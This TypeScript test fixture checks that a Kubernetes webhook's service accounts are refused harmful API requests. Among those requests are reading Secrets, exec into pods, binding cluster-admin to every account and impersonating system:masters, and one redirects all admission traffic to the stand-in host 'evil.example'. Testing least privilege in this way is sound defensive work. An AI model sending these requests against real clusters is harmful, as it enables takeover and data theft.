/** Requests that would do harm, to be refused; made for real, each with the account's own token. */
import { request } from 'node:https';
import { NODES_CONFIG_MAP, PROJECT, SERVICE_ACCOUNT, WEBHOOK_CONFIGURATION } from '../../../../src/names.ts';
import type { ControlPlane } from '../../../cluster/kubernetes/control-plane.ts';

export type Attempt = {
  what: string;
  method: string;
  path: string;
  body?: object;
  contentType?: string;
  headers?: Record<string, string>;
};

export type Place = { plane: Pick<ControlPlane, 'url' | 'caPem'>; token: string };

const MERGE = 'application/merge-patch+json';
const APPLY = 'application/apply-patch+yaml';
const core = (namespace: string) => `/api/v1/namespaces/${namespace}`;
const rbac = (namespace: string) => `/apis/rbac.authorization.k8s.io/v1/namespaces/${namespace}`;
const CLUSTER_RBAC = '/apis/rbac.authorization.k8s.io/v1';
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
const everythingRule = { apiGroups: ['*'], resources: ['*'], verbs: ['*'] };
const meta = (name: string, namespace?: string) => ({ metadata: { name, ...(namespace && { namespace }) } });
const read = (what: string, path: string): Attempt => ({ what, method: 'GET', path });
const remove = (what: string, path: string): Attempt => ({ what, method: 'DELETE', path });
const create = (what: string, path: string, body: object): Attempt => ({ what, method: 'POST', path, body });
const patch = (what: string, path: string, body: object): Attempt => ({
  what,
  method: 'PATCH',
  path,
  body,
  contentType: MERGE,
});

const pod = { ...meta('evil'), spec: { containers: [{ name: 'a', image: 'a' }] } };
const toEveryAccount = [
  { kind: 'Group', name: 'system:serviceaccounts', apiGroup: 'rbac.authorization.k8s.io' },
];

/** What none of our accounts may do. */
const nobody: Attempt[] = [
  read('read a Secret of its namespace', `${core('shop')}/secrets/other`),
  read('list the Secrets of its namespace', `${core('shop')}/secrets`),
  read('read a Secret elsewhere', `${core('elsewhere')}/secrets/other`),
  read('list all Secrets', '/api/v1/secrets'),
  read('read another ConfigMap', `${core('shop')}/configmaps/other`),
  read('list the ConfigMaps', `${core('shop')}/configmaps`),
  patch('change another ConfigMap', `${core('shop')}/configmaps/other`, { data: { key: 'evil' } }),
  create('make a ConfigMap', `${core('shop')}/configmaps`, meta('evil')),
  remove('delete the map', `${core('shop')}/configmaps/${NODES_CONFIG_MAP}`),
  remove('delete all ConfigMaps', `${core('shop')}/configmaps`),
  create('make a pod', `${core('shop')}/pods`, pod),
  patch('label a pod', `${core('shop')}/pods/other`, { metadata: { labels: { a: 'b' } } }),
  patch('write the status of a pod', `${core('shop')}/pods/other/status`, { status: { podIP: '10.0.0.1' } }),
  remove('delete a pod', `${core('shop')}/pods/other`),
  remove('delete all pods', `${core('shop')}/pods`),
  create('evict a pod', `${core('shop')}/pods/other/eviction`, meta('other')),
  create('exec into a pod', `${core('shop')}/pods/other/exec?command=sh&stdout=true`, {}),
  create('attach to a pod', `${core('shop')}/pods/other/attach?stdout=true`, {}),
  create('forward a port of a pod', `${core('shop')}/pods/other/portforward?ports=6379`, {}),
  read('read the log of a pod', `${core('shop')}/pods/other/log`),
  read('go through a pod', `${core('shop')}/pods/other/proxy/`),
  patch('add an ephemeral container', `${core('shop')}/pods/other/ephemeralcontainers`, { spec: {} }),
  create('take a token of our account', `${core('shop')}/serviceaccounts/${SERVICE_ACCOUNT}/token`, {
    spec: {},
  }),
  create('take a token of another account', `${core('shop')}/serviceaccounts/default/token`, { spec: {} }),
  patch('change a StatefulSet', '/apis/apps/v1/namespaces/shop/statefulsets/redis', {
    spec: { replicas: 9 },
  }),
  patch('scale one', '/apis/apps/v1/namespaces/shop/statefulsets/redis/scale', { spec: { replicas: 9 } }),
  patch('opt a namespace in', '/api/v1/namespaces/elsewhere', { metadata: { labels: { a: 'b' } } }),
  create('make a namespace', '/api/v1/namespaces', meta('evil')),
  create('make a ClusterRole', `${CLUSTER_RBAC}/clusterroles`, { ...meta('evil'), rules: [everythingRule] }),
  create('bind one', `${CLUSTER_RBAC}/clusterrolebindings`, {
    ...meta('evil'),
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: toEveryAccount,
  }),
  patch("change the webhook's ClusterRole", `${CLUSTER_RBAC}/clusterroles/redis-ip-updater-webhook`, {
    rules: [everythingRule],
  }),
  patch('give its Role everything', `${rbac('shop')}/roles/${SERVICE_ACCOUNT}`, { rules: [everythingRule] }),
  create('make another Role', `${rbac('shop')}/roles`, { ...meta('evil'), rules: [everythingRule] }),
  {
    ...create('bind cluster-admin under our name', `${rbac('elsewhere')}/rolebindings/${SERVICE_ACCOUNT}`, {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'RoleBinding',
      ...meta(SERVICE_ACCOUNT, 'elsewhere'),
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: toEveryAccount,
    }),
    method: 'PATCH',
    path: `${rbac('elsewhere')}/rolebindings/${SERVICE_ACCOUNT}?fieldManager=evil`,
    contentType: APPLY,
  },
  remove('remove the binding', `${rbac('shop')}/rolebindings/${SERVICE_ACCOUNT}`),
  read('list the webhook configurations', `${ADMISSION}/mutatingwebhookconfigurations`),
  create('make a webhook configuration', `${ADMISSION}/mutatingwebhookconfigurations`, meta('evil')),
  create('make a validating one', `${ADMISSION}/validatingwebhookconfigurations`, meta('evil')),
  patch('change a policy', `${ADMISSION}/validatingadmissionpolicies/other`, { spec: {} }),
  remove('remove ours', `${ADMISSION}/mutatingwebhookconfigurations/${WEBHOOK_CONFIGURATION}`),
  read('list the nodes', '/api/v1/nodes'),
  read('go through a node', '/api/v1/nodes/any/proxy/pods'),
  read('list the volumes', '/api/v1/persistentvolumes'),
  create('ask for a client certificate', '/apis/certificates.k8s.io/v1/certificatesigningrequests', {
    ...meta('evil'),
    spec: { request: 'YQ==', signerName: 'kubernetes.io/kube-apiserver-client', usages: ['client auth'] },
  }),
  ...Object.entries<Record<string, string>>({
    'an administrator': { 'impersonate-user': 'admin', 'impersonate-group': 'system:masters' },
    'our webhook': { 'impersonate-user': `system:serviceaccount:${PROJECT}:redis-ip-updater-webhook` },
    'our updater': { 'impersonate-user': `system:serviceaccount:shop:${SERVICE_ACCOUNT}` },
  }).map(
    ([who, headers]): Attempt => ({
      ...read(`impersonate ${who}`, `${core('shop')}/pods`),
      headers,
    }),
  ),
  read('read the metrics of the API server', '/metrics'),
];

/** What an account of a namespace may not do, though the webhook may. */
const ofNamespace: Attempt[] = [
  read('list the pods of all namespaces', '/api/v1/pods'),
  read('list the pods of another opted-in namespace', `${core('market')}/pods`),
  read('list the pods of a namespace that did not opt in', `${core('elsewhere')}/pods`),
  read('watch the pods of its own', `${core('shop')}/pods?watch=true`),
  read("read another namespace's map", `${core('market')}/configmaps/${NODES_CONFIG_MAP}`),
  patch("write another namespace's map", `${core('market')}/configmaps/${NODES_CONFIG_MAP}`, {
    data: { a: 'b' },
  }),
  read(
    'watch its own map',
    `${core('shop')}/configmaps?watch=true&fieldSelector=metadata.name%3D${NODES_CONFIG_MAP}`,
  ),
  read('list the namespaces', '/api/v1/namespaces'),
  read('read a StatefulSet', '/apis/apps/v1/namespaces/shop/statefulsets/redis'),
  read('read its own binding', `${rbac('shop')}/rolebindings/${SERVICE_ACCOUNT}`),
  read('read its own account', `${core('shop')}/serviceaccounts/${SERVICE_ACCOUNT}`),
  create('make an event', `${core('shop')}/events`, {
    ...meta('evil', 'shop'),
    involvedObject: { kind: 'Pod', name: 'other', namespace: 'shop' },
  }),
  patch(
    'change our webhook configuration',
    `${ADMISSION}/mutatingwebhookconfigurations/${WEBHOOK_CONFIGURATION}`,
    {
      webhooks: [],
    },
  ),
  read("read the webhook's Secret", `${core(PROJECT)}/secrets/redis-ip-updater-webhook-ca`),
];

/**
 * What whoever has the webhook's token can do, beyond its work. None of it is kept: `dryRun`. In the last one he makes
 * himself the webhook for everything that is written in the cluster, which is as good as being its administrator.
 */
export const remaining: Attempt[] = [
  read('read the pods of every namespace, their environment included', '/api/v1/pods'),
  patch('write every map', `${core('market')}/configmaps/${NODES_CONFIG_MAP}?dryRun=All`, {
    data: { a: 'b' },
  }),
  {
    ...patch(
      'give everybody what updaters have, in any namespace',
      `${rbac('market')}/rolebindings/${SERVICE_ACCOUNT}?fieldManager=evil&force=true&dryRun=All`,
      {
        apiVersion: 'rbac.authorization.k8s.io/v1',
        kind: 'RoleBinding',
        ...meta(SERVICE_ACCOUNT, 'market'),
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: SERVICE_ACCOUNT },
        subjects: toEveryAccount,
      },
    ),
    contentType: APPLY,
  },
  read("read the webhook's CA, if it is there", `${core(PROJECT)}/secrets/redis-ip-updater-webhook-ca`),
  patch(
    'send everything that is written elsewhere',
    `${ADMISSION}/mutatingwebhookconfigurations/${WEBHOOK_CONFIGURATION}?dryRun=All`,
    {
      webhooks: [
        {
          name: 'inject.redis-ip-updater.io',
          clientConfig: { url: 'https://evil.example/' },
          rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
        },
      ],
    },
  ),
];

export function attempts(who: 'the webhook' | 'an account of shop'): Attempt[] {
  return who === 'the webhook' ? nobody : [...nobody, ...ofNamespace];
}

/** Makes the request; resolves with its HTTP status. */
export function done({ plane, token }: Place, attempt: Attempt): Promise<number> {
  const { method, path, body, contentType = 'application/json', headers } = attempt;
  return new Promise((resolve, reject) => {
    const sent = request(
      new URL(path, plane.url),
      {
        method,
        ca: plane.caPem,
        headers: { authorization: `Bearer ${token}`, 'content-type': contentType, ...headers },
      },
      (response) => {
        response.resume();
        // A watch that is let pass never ends.
        response.destroy();
        resolve(response.statusCode ?? 0);
      },
    );
    sent.on('error', reject);
    sent.end(body === undefined ? undefined : JSON.stringify(body));
  });
}
